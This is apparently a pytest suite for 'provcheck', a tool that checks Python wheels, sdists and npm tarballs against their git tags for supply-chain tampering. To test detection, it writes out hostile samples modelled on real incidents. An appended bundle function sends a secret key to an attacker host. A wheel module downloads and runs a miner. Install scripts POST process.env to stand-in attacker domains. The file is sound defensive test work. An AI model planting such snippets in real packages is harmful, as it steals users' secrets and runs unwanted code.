"""Python sdists/wheels and npm tarballs against their tags: real builds (setuptools and
hatchling through ``python -m build``, ``npm pack``), attack variants written here."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

import packages as pk

HERE = Path(__file__).resolve().parent
EXFIL = ('\nfunction addToQueue(k) {\n  try {\n    fetch("https://rpc-queue.attacker.invalid/api/rpc/queue", '
         '{method: "POST", headers: {"x-amz-cf-id": k.secretKey}});\n  } catch (e) {}\n}\n')


def run(*args: object, plugins: tuple[str, ...] | None = ("provcheck_release",)) -> tuple[int, dict]:
    """``plugins=None``: the installed plugins, autoloaded, as a user runs it."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("PROVCHECK_")}
    if plugins is not None:
        env["PROVCHECK_DISABLE_PLUGIN_AUTOLOAD"] = "1"
    cmd = [sys.executable, "-m", "provcheck"] + [x for p in plugins or () for x in ("-p", p)] + [str(a) for a in args]
    proc = subprocess.run(cmd + ["--format", "json"], capture_output=True, text=True, timeout=300, env=env)
    assert "Traceback" not in proc.stderr, proc.stderr[-3000:]
    assert proc.stdout, proc.stderr[-3000:]
    return proc.returncode, json.loads(proc.stdout)


def findings(data: dict, min_sev: str = "low") -> list[dict]:
    order = ["info", "low", "medium", "high", "critical"]
    return [f for f in data["findings"] if order.index(f["severity"]) >= order.index(min_sev)]


def verdicts(data: dict) -> dict[str, dict]:
    return {v["path"]: v for v in data["release"]["files"]}


@pytest.fixture(scope="session")
def py_built(tmp_path_factory):
    base = tmp_path_factory.mktemp("pypkg")
    out = {}
    for name, files, tag in (("pcdemo", pk.SETUPTOOLS_PROJECT, "v1.2.0"), ("hatchdemo", pk.HATCH_PROJECT, "0.3.1")):
        repo = pk.git_project(base / name, files, tag)
        sdist, wheel = pk.build_python(repo, base / f"{name}-dist")
        out[name] = (repo, sdist, wheel)
    return out


@pytest.fixture(scope="session")
def npm_built(tmp_path_factory):
    base = tmp_path_factory.mktemp("npmpkg")
    repo = pk.git_project(base / "npmdemo", pk.NPM_PACKAGE, "v2.0.0")
    return repo, pk.npm_pack(repo, base / "out", pk.NPM_BUILT)


@pytest.mark.parametrize("project", ["pcdemo", "hatchdemo"])
def test_clean_sdist_and_wheel_are_clean(py_built, project):
    repo, sdist, wheel = py_built[project]
    for artifact in (sdist, wheel):
        code, data = run("release", artifact, "--source", repo)
        assert code == 0 and not findings(data, "low"), findings(data, "low")
        assert data["release"]["source_ref"] in ("v1.2.0", "0.3.1")
    v = verdicts(run("release", wheel, "--source", repo)[1])
    if project == "pcdemo":  # the wheel's package mapped onto the src/ layout
        assert v["src/pcdemo/util.py"]["verdict"] == "identical"
        assert v["pcdemo-1.2.0.dist-info/RECORD"]["verdict"] == "generated"


def test_module_edited_only_in_the_wheel(py_built, tmp_path):
    """The ultralytics 8.3.41 shape: a module of the wheel starts a downloaded program."""
    repo, _, wheel = py_built["pcdemo"]
    util = pk.member(wheel, "pcdemo/util.py").decode()
    evil = util + ("\nimport os, subprocess, urllib.request\n\n\ndef _fetch():\n"
                   "    path = '/tmp/.x'\n    urllib.request.urlretrieve('https://dl.attacker.invalid/x', path)\n"
                   "    subprocess.Popen([path, '-o', 'pool.attacker.invalid:8080'])\n")
    bad = pk.rewrite_wheel(wheel, tmp_path / wheel.name, {"pcdemo/util.py": evil.encode()})
    code, data = run("release", bad, "--source", repo)
    assert code == 1
    by_rule = {f["rule_id"]: f for f in findings(data, "high")}
    assert by_rule["PC102"]["location"]["path"] == "pcdemo/util.py"
    assert by_rule["PC125"]["severity"] == "critical"
    assert {"process", "network", "new-endpoint"} <= {c["capability"] for c in by_rule["PC125"]["evidence"]["capabilities"]}
    # the same edit without rewriting RECORD is also a RECORD mismatch
    code, data = run("release", pk.rewrite_wheel(wheel, tmp_path / "norecord" / wheel.name
                                                 if (tmp_path / "norecord").mkdir() is None else None,
                                                 {"pcdemo/util.py": evil.encode()}, fix_record=False),
                     "--source", repo)
    assert any(f["rule_id"] == "PC123" and "hash differs" in f["message"] for f in data["findings"])


def test_pth_file_and_new_entry_point_in_a_wheel(py_built, tmp_path):
    repo, _, wheel = py_built["pcdemo"]
    ep = pk.member(wheel, "pcdemo-1.2.0.dist-info/entry_points.txt").decode() + "pcdemo-update = pcdemo.util:shout\n"
    bad = pk.rewrite_wheel(wheel, tmp_path / wheel.name, {
        "pcdemo-init.pth": b"import os; os.system('true')\n",
        "pcdemo-1.2.0.dist-info/entry_points.txt": ep.encode()})
    code, data = run("release", bad, "--source", repo)
    crit = [f for f in findings(data, "critical") if f["rule_id"] == "PC120"]
    assert crit and crit[0]["location"]["path"] == "pcdemo-init.pth"
    assert any(f["rule_id"] == "PC121" and "pcdemo-update" in f["message"] for f in findings(data, "high"))


def test_version_file_carrying_code_and_a_clean_one(py_built, tmp_path):
    repo, sdist, wheel = py_built["pcdemo"]
    clean = ("# file generated by setuptools-scm\n# don't change, don't track in version control\n"
             "TYPE_CHECKING = False\nif TYPE_CHECKING:\n    from typing import Tuple, Union\n"
             "    VERSION_TUPLE = Tuple[Union[int, str], ...]\nelse:\n    VERSION_TUPLE = object\n\n"
             "version: str\n__version__: str\n__version_tuple__: VERSION_TUPLE\n"
             "__version__ = version = '1.2.0'\n__version_tuple__ = version_tuple = (1, 2, 0)\n")
    code, data = run("release", pk.rewrite_wheel(wheel, tmp_path / wheel.name,
                                                 {"pcdemo/_version.py": clean.encode()}), "--source", repo)
    assert code == 0 and not findings(data, "low")
    assert verdicts(data)["src/pcdemo/_version.py"]["verdict"] == "generated"
    top = sdist.name.removesuffix(".tar.gz")
    evil = clean + "import os as _o\n_o.system('echo pwned')\n"
    (tmp_path / "s").mkdir()
    bad = pk.rewrite_tar(sdist, tmp_path / "s" / sdist.name, {f"{top}/src/pcdemo/_version.py": evil.encode()})
    code, data = run("release", bad, "--source", repo)
    f = next(f for f in data["findings"] if f["rule_id"] == "PC122")
    assert f["severity"] == "critical" and f["location"]["path"] == f"{top}/src/pcdemo/_version.py"
    wrong = clean.replace("'1.2.0'", "'1.2.1'")
    (tmp_path / "w").mkdir()
    code, data = run("release", pk.rewrite_tar(sdist, tmp_path / "w" / sdist.name,
                                               {f"{top}/src/pcdemo/_version.py": wrong.encode()}), "--source", repo)
    assert [f["severity"] for f in data["findings"] if f["rule_id"] == "PC122"] == ["high"]


def test_install_time_code_in_an_sdist(py_built, tmp_path):
    repo, sdist, _ = py_built["pcdemo"]
    top = sdist.name.removesuffix(".tar.gz")
    # a setup.py only in the sdist that does more than declare
    setup = b"import os\nfrom setuptools import setup\nos.system('id > /tmp/x')\nsetup()\n"
    code, data = run("release", pk.rewrite_tar(sdist, tmp_path / sdist.name, {f"{top}/setup.py": setup}),
                     "--source", repo)
    f = next(f for f in findings(data, "critical") if f["rule_id"] == "PC120")
    assert f["location"]["path"] == f"{top}/setup.py"
    # a purely declarative one (what poetry writes) is recognised
    (tmp_path / "d").mkdir()
    decl = (b"from setuptools import setup\n\npackages = ['pcdemo']\nsetup_kwargs = {'name': 'pcdemo', "
            b"'version': '1.2.0', 'packages': packages}\n\nsetup(**setup_kwargs)\n")
    code, data = run("release", pk.rewrite_tar(sdist, tmp_path / "d" / sdist.name, {f"{top}/setup.py": decl}),
                     "--source", repo)
    assert code == 0 and verdicts(data)["setup.py"]["verdict"] == "generated"
    # a build hook declared only in the sdist's pyproject.toml
    (tmp_path / "h").mkdir()
    pyproject = pk.member(sdist, f"{top}/pyproject.toml") + b'\n[tool.setuptools.cmdclass]\nbuild_py = "hook.Build"\n'
    code, data = run("release", pk.rewrite_tar(sdist, tmp_path / "h" / sdist.name,
                                               {f"{top}/pyproject.toml": pyproject}), "--source", repo)
    assert any(f["rule_id"] == "PC121" and f["severity"] == "critical" and "cmdclass" in f["message"]
               for f in data["findings"])


def test_clean_npm_package(npm_built):
    repo, tgz = npm_built
    code, data = run("release", tgz, "--source", repo)
    assert code == 0 and not findings(data, "medium"), findings(data, "medium")
    v = verdicts(data)
    assert v["dist/index.js"]["verdict"] == "built-unverified" and v["package.json"]["verdict"] == "identical"
    built = next(f for f in data["findings"] if f["rule_id"] == "PC124")
    assert built["severity"] == "low" and built["evidence"]["count"] == 1
    assert built["evidence"]["files"][0]["loaded_by"][:2] == ["package.json main", "bin/cli.js"]


def test_postinstall_added_only_in_the_tarball(npm_built, tmp_path):
    """The nx 21.5.0 / Shai-Hulud shape: a postinstall running a file git never had."""
    repo, tgz = npm_built
    doc = json.loads(pk.member(tgz, "package/package.json"))
    doc["scripts"]["postinstall"] = "node telemetry.js"
    telemetry = (b"const https = require('https');\nconst env = JSON.stringify(process.env);\n"
                 b"https.request({host: 'telemetry.attacker.invalid', method: 'POST'}).end(env);\n")
    bad = pk.rewrite_tar(tgz, tmp_path / tgz.name, {"package/package.json": json.dumps(doc, indent=2).encode(),
                                                    "package/telemetry.js": telemetry})
    code, data = run("release", bad, "--source", repo)
    crit = {(f["rule_id"], f["location"]["path"]) for f in findings(data, "critical")}
    assert ("PC120", "package/package.json") in crit and ("PC120", "package/telemetry.js") in crit
    # a changed dependency and a new bin entry are high
    doc = json.loads(pk.member(tgz, "package/package.json"))
    doc["dependencies"]["flatmap-stream"] = "0.1.1"
    doc["bin"]["npmdemo-helper"] = "lib/util.js"
    (tmp_path / "d").mkdir()
    code, data = run("release", pk.rewrite_tar(tgz, tmp_path / "d" / tgz.name,
                                               {"package/package.json": json.dumps(doc).encode()}), "--source", repo)
    high = {f["evidence"].get("key") for f in findings(data, "high") if f["rule_id"] == "PC121"}
    assert high == {"dependencies.flatmap-stream", "bin.npmdemo-helper"} and not findings(data, "critical")


def test_bundle_with_appended_exfiltration(npm_built, tmp_path):
    """The @solana/web3.js 1.95.6 shape: the built bundle sends a key to a new host."""
    repo, tgz = npm_built
    bundle = pk.member(tgz, "package/dist/index.js") + EXFIL.encode()
    code, data = run("release", pk.rewrite_tar(tgz, tmp_path / tgz.name, {"package/dist/index.js": bundle}),
                     "--source", repo)
    f = next(f for f in data["findings"] if f["rule_id"] == "PC124")
    assert f["severity"] == "critical" and f["location"]["path"] == "package/dist/index.js"
    assert "addToQueue" in f["evidence"]["novel_tokens"]
    assert {"network", "secrets", "new-endpoint"} <= {c["capability"] for c in f["evidence"]["capabilities"]}


def test_no_source_names_repository_and_tag(py_built, npm_built, tmp_path):
    _, _, wheel = py_built["pcdemo"]
    _, tgz = npm_built
    doc = json.loads(pk.member(tgz, "package/package.json"))
    doc["gitHead"] = "0123456789abcdef0123456789abcdef01234567"
    published = pk.rewrite_tar(tgz, tmp_path / tgz.name, {"package/package.json": json.dumps(doc).encode()})
    env = {k: v for k, v in os.environ.items() if not k.startswith("PROVCHECK_")}
    for artifact, repo_url, extra in ((wheel, "https://github.com/example/pcdemo", "v1.2.0"),
                                      (published, "https://github.com/example/npmdemo", "0123456789ab")):
        proc = subprocess.run([sys.executable, "-m", "provcheck", "release", str(artifact)], capture_output=True,
                              text=True, env=env, timeout=120)
        assert proc.returncode == 4 and repo_url in proc.stderr and extra in proc.stderr
        assert "give --source" in proc.stderr and "Traceback" not in proc.stderr


def test_provenance_tied_to_the_tag(npm_built, tmp_path):
    """npm-style SLSA provenance and a PEP 740 attestation, signed by a local Sigstore."""
    sys.path.insert(0, str(HERE.parent / "attest"))
    from localsigstore import Identity, LocalSigstore, intoto_statement
    repo, tgz = npm_built
    ls = LocalSigstore("pkg")
    root = tmp_path / "trusted_root.json"
    ls.write_trusted_root(root)
    commit = subprocess.run(["git", "-C", str(repo), "rev-parse", "v2.0.0^{commit}"], capture_output=True,
                            text=True, check=True).stdout.strip()
    sha512 = hashlib.sha512(tgz.read_bytes()).hexdigest()
    ident = Identity(san="https://github.com/example/npmdemo/.github/workflows/release.yml@refs/tags/v2.0.0",
                     issuer="https://token.actions.githubusercontent.com",
                     source_repo="https://github.com/example/npmdemo", source_digest=commit,
                     source_ref="refs/tags/v2.0.0")

    def attestations(stmt_commit: str) -> Path:
        stmt = intoto_statement({}, repo="git+https://github.com/example/npmdemo", commit=stmt_commit,
                                ref="refs/tags/v2.0.0")
        stmt["subject"] = [{"name": "pkg:npm/npmdemo@2.0.0", "digest": {"sha512": sha512}}]
        doc = {"attestations": [{"predicateType": stmt["predicateType"], "bundle": ls.sign_dsse(stmt, ident)}]}
        path = tmp_path / f"att-{stmt_commit[:6]}.json"
        path.write_text(json.dumps(doc))
        return path

    plugins = ("provcheck_release", "provcheck_attest")
    for loaded in (plugins, None):  # named, and autoloaded (release keeps the plugin that verifies for it)
        code, data = run("release", tgz, "--source", repo, "--provenance", attestations(commit), "--trusted-root",
                         root, plugins=loaded)
        assert code == 0 and [f["rule_id"] for f in data["findings"]
                              if f["rule_id"] in ("PC127", "PC128", "PC129")] == ["PC129"], data["findings"]
    code, data = run("release", tgz, "--source", repo, "--provenance", attestations("f" * 40), "--trusted-root", root,
                     plugins=plugins)
    f = next(f for f in data["findings"] if f["rule_id"] == "PC127")
    assert code == 1 and f["severity"] == "critical" and "f" * 12 in f["message"]
    # PEP 740: the same bundle re-encoded as a provenance object; another artifact's subject
    bundle = ls.sign_dsse(intoto_statement({"other.whl": "0" * 64}, commit=commit), ident)
    pep740 = {"version": 1, "attestation_bundles": [{"publisher": {"kind": "GitHub", "repository": "example/npmdemo",
                                                                   "workflow": "release.yml"},
                                                     "attestations": [{
        "version": 1, "verification_material": {"certificate": bundle["verificationMaterial"]["certificate"]["rawBytes"],
                                                "transparency_entries": bundle["verificationMaterial"]["tlogEntries"]},
        "envelope": {"statement": bundle["dsseEnvelope"]["payload"],
                     "signature": bundle["dsseEnvelope"]["signatures"][0]["sig"]}}]}]}
    (tmp_path / "p.json").write_text(json.dumps(pep740))
    code, data = run("release", tgz, "--source", repo, "--provenance", tmp_path / "p.json", "--trusted-root", root,
                     plugins=plugins)
    f = next(f for f in data["findings"] if f["rule_id"] == "PC127")
    assert "subject is another artifact" in f["message"]
    # without the attest plugin the provenance is an error, never a silent pass
    code, data = run("release", tgz, "--source", repo, "--provenance", tmp_path / "p.json")
    assert code == 3 and "needs the attest plugin" in json.dumps(data["errors"])
    # history: earlier releases were attested, this one comes without
    hist = tmp_path / "hist.json"
    hist.write_text(json.dumps({"npmdemo": {"1.9.0": {"identity": ident.san.replace("v2.0.0", "v1.9.0")}}}))
    code, data = run("release", tgz, "--source", repo, "--provenance-history", hist, plugins=plugins)
    assert any(f["rule_id"] == "PC128" and "no verified provenance" in f["message"] for f in data["findings"])
    # the same workflow at another tag is the same signer; another workflow is not
    hist.write_text(json.dumps({"npmdemo": {"1.9.0": {"identity": ident.san.split("@")[0]}}}))
    _, data = run("release", tgz, "--source", repo, "--provenance", attestations(commit), "--trusted-root", root,
                  "--provenance-history", hist, plugins=plugins)
    assert not [f for f in data["findings"] if f["rule_id"] == "PC128"]
    hist.write_text(json.dumps({"npmdemo": {"1.9.0": {"identity": "https://github.com/example/npmdemo/.github/"
                                                                  "workflows/publish.yml"}}}))
    _, data = run("release", tgz, "--source", repo, "--provenance", attestations(commit), "--trusted-root", root,
                  "--provenance-history", hist, plugins=plugins)
    assert any(f["rule_id"] == "PC128" and "release.yml" in f["message"] for f in data["findings"])


def test_built_install_script_is_judged_by_its_code(tmp_path):
    """A postinstall the tag declares, running a file built from TypeScript: medium with its
    facts while it holds only the source's code, critical once code is inserted into it."""
    files = dict(pk.NPM_PACKAGE)
    doc = json.loads(files["package.json"])
    doc["scripts"]["postinstall"] = "node dist/postinstall.js"
    files["package.json"] = json.dumps(doc, indent=2)
    files["src/postinstall.ts"] = 'import { hello } from "./index";\nconsole.log(hello("installer"));\n'
    repo = pk.git_project(tmp_path / "npmdemo", files, "v2.0.0")
    built = dict(pk.NPM_BUILT, **{"dist/postinstall.js": '"use strict";\nconst index_1 = require("./index");\n'
                                                         'console.log((0, index_1.hello)("installer"));\n'})
    tgz = pk.npm_pack(repo, tmp_path / "out", built)
    code, data = run("release", tgz, "--source", repo)
    f = next(f for f in data["findings"] if f["location"]["path"] == "package/dist/postinstall.js")
    assert code == 0 and f["rule_id"] == "PC124" and f["severity"] == "medium"
    assert f["evidence"]["loaded_by"][0].startswith("npm at install (named by scripts.postinstall")
    evil = pk.member(tgz, "package/dist/postinstall.js") + EXFIL.encode() + b"addToQueue({secretKey: process.env});\n"
    (tmp_path / "bad").mkdir()
    code, data = run("release", pk.rewrite_tar(tgz, tmp_path / "bad" / tgz.name, {"package/dist/postinstall.js": evil}),
                     "--source", repo)
    assert any(f["rule_id"] == "PC124" and f["severity"] == "critical" for f in data["findings"])


def test_install_hooks_in_other_shapes(py_built, npm_built, tmp_path):
    """Hooks this suite has no dedicated fixture for: a bundled dependency's postinstall, a
    binding.gyp, a sitecustomize.py in a wheel, code inside an sdist's egg-info."""
    repo, tgz = npm_built
    nested = json.dumps({"name": "helper", "version": "1.0.0", "scripts": {"install": "node setup.js"}}).encode()
    bad = pk.rewrite_tar(tgz, tmp_path / tgz.name, {"package/node_modules/helper/package.json": nested,
                                                    "package/node_modules/helper/setup.js": b"require('os');\n",
                                                    "package/binding.gyp": b"{'targets': []}\n"})
    _, data = run("release", bad, "--source", repo)
    crit = {f["location"]["path"] for f in findings(data, "critical") if f["rule_id"] == "PC120"}
    assert {"package/node_modules/helper/package.json", "package/node_modules/helper/setup.js",
            "package/binding.gyp"} <= crit
    prepo, sdist, wheel = py_built["pcdemo"]
    (tmp_path / "w").mkdir()
    _, data = run("release", pk.rewrite_wheel(wheel, tmp_path / "w" / wheel.name,
                                              {"sitecustomize.py": b"print('every interpreter')\n"}), "--source", prepo)
    assert any(f["rule_id"] == "PC120" and f["location"]["path"] == "sitecustomize.py" for f in findings(data, "critical"))
    top = sdist.name.removesuffix(".tar.gz")
    (tmp_path / "s").mkdir()
    _, data = run("release", pk.rewrite_tar(sdist, tmp_path / "s" / sdist.name,
                                            {f"{top}/src/pcdemo.egg-info/hook.py": b"import subprocess\n"}), "--source",
                  prepo)
    assert any(f["rule_id"] == "PC101" and f["location"]["path"].endswith("egg-info/hook.py")
               for f in findings(data, "medium"))


def test_new_file_in_a_source_controlled_directory_is_not_a_build_output(npm_built, tmp_path):
    """lib/ is in git: a lib/ file only in the tarball, loaded by a modified lib/util.js, is code
    nobody reviewed, not a build output."""
    repo, tgz = npm_built
    util = pk.member(tgz, "package/lib/util.js") + b"require('./metrics');\n"
    metrics = (b"const os = require('os');\nconst data = JSON.stringify({h: os.hostname(), e: process.env});\n"
               b"require('https').request({host: 'metrics.attacker.invalid', method: 'POST'}).end(data);\n")
    bad = pk.rewrite_tar(tgz, tmp_path / tgz.name, {"package/lib/util.js": util, "package/lib/metrics.js": metrics})
    _, data = run("release", bad, "--source", repo)
    v = verdicts(data)
    assert v["lib/metrics.js"]["verdict"] == "unexplained" and v["lib/util.js"]["verdict"] == "modified"
    assert any(f["location"]["path"] == "package/lib/metrics.js" and f["severity"] == "critical"
               for f in data["findings"])


def test_hostile_package_metadata_never_tracebacks(py_built, npm_built, tmp_path):
    repo, tgz = npm_built
    for i, pj in enumerate((b"[]", b"{" * 5000, b"\xff\xfe not json", b'{"scripts": 7, "bin": [1, {"a": null}]}')):
        (tmp_path / str(i)).mkdir()
        code, data = run("release", pk.rewrite_tar(tgz, tmp_path / str(i) / tgz.name, {"package/package.json": pj}),
                         "--source", repo)
        assert code in (0, 1) and not data["errors"], data["errors"]
        assert any(f["location"]["path"] == "package/package.json" for f in data["findings"] if f["severity"] != "info")
    prepo, sdist, wheel = py_built["pcdemo"]
    top = sdist.name.removesuffix(".tar.gz")
    (tmp_path / "s").mkdir()
    code, data = run("release", pk.rewrite_tar(sdist, tmp_path / "s" / sdist.name, {
        f"{top}/setup.py": b"def (:\n", f"{top}/pyproject.toml": b"[[[ not toml", f"{top}/PKG-INFO": b"\0\1\2"}),
        "--source", prepo)
    assert code == 1 and not data["errors"]
    assert any(f["rule_id"] == "PC120" and f["location"]["path"] == f"{top}/setup.py" for f in data["findings"])
    record = next(n for n in pk.read_names(wheel) if n.endswith("RECORD"))
    (tmp_path / "w").mkdir()
    code, data = run("release", pk.rewrite_wheel(wheel, tmp_path / "w" / wheel.name,
                                                 {record: b'"unterminated,\x00\n' * 3}, fix_record=False),
                     "--source", prepo)
    assert code == 1 and not data["errors"] and any(f["rule_id"] == "PC123" for f in data["findings"])
